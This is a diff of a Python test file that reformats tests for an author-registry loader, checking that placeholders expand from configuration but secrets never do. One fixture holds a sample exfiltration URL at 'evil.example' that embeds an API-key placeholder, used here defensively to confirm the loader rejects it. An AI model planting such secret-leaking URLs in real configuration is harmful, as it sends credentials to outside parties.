@@ -10,7 +10,9 @@ from twin_assets.paths import PROJECT_ROOT
 
 
 def test_bundled_registry_expands_placeholders():
-    (author,) = load_registry(PROJECT_ROOT / "authors.yaml", {"TWIN_SAMPLE_SITE_URL": "http://127.0.0.1:9999"})
+    (author,) = load_registry(
+        PROJECT_ROOT / "authors.yaml", {"TWIN_SAMPLE_SITE_URL": "http://127.0.0.1:9999"}
+    )
     assert author.id == "maya-kowalski"
     assert author.links[0].url == "http://127.0.0.1:9999/medium/@mayakowalski/"
     assert {str(link.kind) for link in author.links} == {"web", "export", "git"}
@@ -58,12 +60,16 @@ def test_only_documented_placeholders_are_expanded_never_secrets():
     environ = {"TWIN_LLM_API_KEY": "sk-very-secret", "TWIN_DATA_DIR": "/srv/twin"}
     placeholders = registry_placeholders(environ)
     assert placeholders == {"TWIN_DATA_DIR": "/srv/twin"}
-    text = ("authors:\n  - id: a\n    full_name: A\n    links:\n"
-            "      - url: https://evil.example/?k=${TWIN_LLM_API_KEY}\n")
+    text = (
+        "authors:\n  - id: a\n    full_name: A\n    links:\n"
+        "      - url: https://evil.example/?k=${TWIN_LLM_API_KEY}\n"
+    )
     with pytest.raises(RegistryError, match="TWIN_LLM_API_KEY") as err:
         parse_registry(text, placeholders=placeholders)
     assert "sk-very-secret" not in str(err.value)
     assert "${TWIN_DATA_DIR}" in str(err.value) and "${TWIN_SAMPLE_SITE_URL}" in str(err.value)
-    (author,) = parse_registry(text.replace("https://evil.example/?k=${TWIN_LLM_API_KEY}",
-                                            "${TWIN_DATA_DIR}/exports/x.zip"), placeholders=placeholders)
+    (author,) = parse_registry(
+        text.replace("https://evil.example/?k=${TWIN_LLM_API_KEY}", "${TWIN_DATA_DIR}/exports/x.zip"),
+        placeholders=placeholders,
+    )
     assert author.links[0].url == "/srv/twin/exports/x.zip"  # documented ones: from the configuration
